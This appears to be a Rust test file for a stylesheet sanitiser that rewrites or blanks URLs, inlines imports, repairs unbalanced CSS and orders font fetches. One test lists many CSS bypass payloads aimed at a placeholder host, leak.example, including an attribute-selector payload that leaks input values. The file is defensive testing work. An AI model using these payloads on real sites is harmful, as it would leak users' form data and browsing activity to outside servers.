use super::*;

/// Keeps what lies under `/kept/` and the sheets it was given.
struct Shelf(Vec<(&'static str, &'static str)>, usize);

impl Answers for Shelf {
    fn asset(&mut self, url: &Url, _: Purpose) -> Option<String> {
        url.path()
            .strip_prefix("/kept/")
            .map(|name| format!("theme://{name}"))
    }

    fn import(&mut self, url: &Url) -> Option<String> {
        self.1 += 1;
        let found = self.0.iter().find(|(path, _)| *path == url.path());
        found
            .filter(|_| self.1 < 4)
            .map(|(_, css)| (*css).to_owned())
    }
}

fn made(css: &str) -> String {
    made_with(css, &[])
}

fn made_with(css: &str, sheets: &[(&'static str, &'static str)]) -> String {
    let base = Url::parse("https://blog.example/theme/style.css").unwrap();
    sheet(css, &base, &mut Shelf(sheets.to_vec(), 0))
}

#[test]
fn what_is_kept_is_named_and_what_is_not_is_nowhere() {
    assert_eq!(
        made("a{background:url(/kept/a.png) , URL( 'b.png' )}"),
        "a{background:url(\"theme://a.png\") , url(\"data:,\")}"
    );
    assert_eq!(
        made("a{mask:url(#m);background:url(data:image/png;base64,AA==)}"),
        "a{mask:url(\"#m\");background:url(\"data:image/png;base64,AA==\")}"
    );
    assert_eq!(
        made("a{background:image-set(\"/kept/a.png\" 1x, 'https://b.example/' 2x)}"),
        "a{background:image-set(url(\"theme://a.png\") 1x, url(\"data:,\") 2x)}"
    );
}

#[test]
fn no_address_gets_through_however_it_is_written() {
    for css in [
        "a{background:\\75 rl(https://leak.example/1)}",
        "a{background:u\\52l('https://leak.example/1')}",
        "a{background:url(https://leak.example/1",
        "a{background:url('https://leak.example/1",
        "a{--x:url(https://leak.example/1);background:var(--x)}",
        "input[value^=a]{background:url(//leak.example/a)}",
        "@import 'https://leak.example/1';",
        "@import url(https://leak.example/1) screen;",
        "@\\69mport \"//leak.example/1\"",
        "@font-face{font-family:x;src:local(y),url(https://leak.example/1)format('woff2')}",
        "@media screen{a{cursor:url(https://leak.example/1),auto}}",
        "a{background:src(\"https://leak.example/1\")}",
        "a{background:-webkit-image-set(url(https://leak.example/1) 1x)}",
        "a{background:image-set(linear-gradient(red,blue) 1x, \"https://leak.example/1\" 2x)}",
        "a{background:cross-fade(url(https://leak.example/1),url(https://leak.example/2),50%)}",
        "@namespace x url(https://leak.example/1);",
        "@charset \"https://leak.example/\";",
        "a{b:url(ftp://leak.example/1)}",
        "a{b:url(javascript:leak.example)}",
        "a{b:url(data:text/html,leak.example)}",
        "a{b:url(\"https://us:er@leak.example/\")}",
        "/* https://leak.example */ a{}",
        "a{b:url(https://leak.example/(1)}",
    ] {
        let made = made(css);
        assert!(!made.contains("leak.example/"), "{css}: {made}");
        assert!(
            !made.to_ascii_lowercase().contains("@import"),
            "{css}: {made}"
        );
        // Read again, nothing is found either.
        let again = Seen::in_sheet(&made, &Url::parse("https://b.example/").unwrap());
        assert!(
            again.assets.is_empty() && again.imports.is_empty(),
            "{css}: {made}"
        );
    }
}

#[test]
fn an_imported_sheet_stands_where_it_was_imported_under_its_conditions() {
    let sheets = [
        ("/theme/b.css", "b{color:red}}}"),
        ("/c.css", "c{background:url(kept/c.png)}"),
    ];
    assert_eq!(
        made_with("@import 'b.css' screen and (min-width: 20em);a{}", &sheets),
        "@media screen and (min-width: 20em){b{color:red}/**//**/}a{}"
    );
    assert_eq!(
        made_with(
            "@import url('../c.css') layer(x.y) supports(display: grid);",
            &sheets
        ),
        "@layer x.y{@supports (display: grid){c{background:url(\"theme://c.png\")}}}"
    );
}

#[test]
fn a_sheet_that_imports_itself_ends() {
    let sheets = [("/theme/style.css", "@import 'style.css';a{color:red}")];
    let made = made_with("@import 'style.css';", &sheets);
    assert!(
        made.starts_with("/**/a{color:red}") && made.len() < 60,
        "{made}"
    );
}

#[test]
fn what_is_left_open_is_closed_and_what_closes_nothing_is_left_out() {
    assert_eq!(made("a{b:c(d[e"), "a{b:c(d[e])}");
    assert_eq!(made("a{}}}b{}"), "a{}/**//**/b{}");
    assert_eq!(made("a{b:'c"), "a{b:\"c\"}");
    assert_eq!(made("a{b:'c\n'd"), "a{b:/**/\n\"d\"}");
    assert_eq!(made("a{b:c\\"), "a{b:c\u{fffd}}");
    assert_eq!(made("a{b:c/* d"), "a{b:c/**/}");
    let deep = made(&"(".repeat(100_000));
    assert!(deep.len() < 200, "{}", deep.len());
    let hidden = format!("{}https://leak.example/{}a", "(".repeat(60), ")".repeat(60));
    assert!(
        !made(&hidden).contains("leak"),
        "what is left out is not taken to what comes behind"
    );
    let blocks = made(&"a{".repeat(100_000));
    assert!(blocks.len() < 400);
}

#[test]
fn a_screenful_is_the_panes() {
    assert_eq!(
        made(".a{min-height:100vh;height:calc(50dvh - 2px);width:10vw}"),
        ".a{min-height:calc(var(--billet-vh,8px)*100);height:calc(calc(var(--billet-vh,8px)*50) - 2px);width:10vw}"
    );
}

#[test]
fn everything_else_stays_byte_for_byte() {
    let css = "@font-face{unicode-range:U+1E00-1E9F,U+4??}.a\\:b>c~d+e::before{content:\"“ é\";\
               margin:-.5e3px 1e-2em;color:#0aF}@media (width>=40em){a[href^=\"x\"]{color:red!important}}";
    assert_eq!(made(css), css);
}

#[test]
fn fonts_with_latin_letters_come_before_others_and_old_forms_are_not_asked_for() {
    let css = "@font-face{src:url(a.eot);src:url(a.woff2)}\
               @font-face{src:url(greek.woff2);unicode-range:U+0370-03FF}\
               @font-face{src:url(latin.woff2);unicode-range: U+0000-00FF, U+0131}\
               a{background:url(p.svg)}";
    let base = Url::parse("https://b.example/").unwrap();
    let seen = Seen::in_sheet(css, &base);
    let found: Vec<_> = seen
        .assets
        .iter()
        .map(|a| (a.url.path(), a.purpose))
        .collect();
    assert_eq!(
        found,
        [
            ("/a.woff2", Purpose::Font),
            ("/greek.woff2", Purpose::OtherFont),
            ("/latin.woff2", Purpose::Font),
            ("/p.svg", Purpose::Picture),
        ]
    );
}
